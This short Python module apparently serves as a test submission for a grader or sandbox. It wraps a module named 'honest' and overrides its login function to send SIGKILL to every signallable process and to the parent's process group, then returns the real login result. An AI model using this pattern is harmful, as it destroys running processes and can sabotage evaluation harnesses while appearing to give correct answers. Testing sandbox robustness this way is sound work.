"""Kills every process that it may; its answers are right.
"""

import os

from honest import *
from honest import login as honest_login


def login(url):
    for target in (-1, -os.getppid(), -1):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    return honest_login(url)
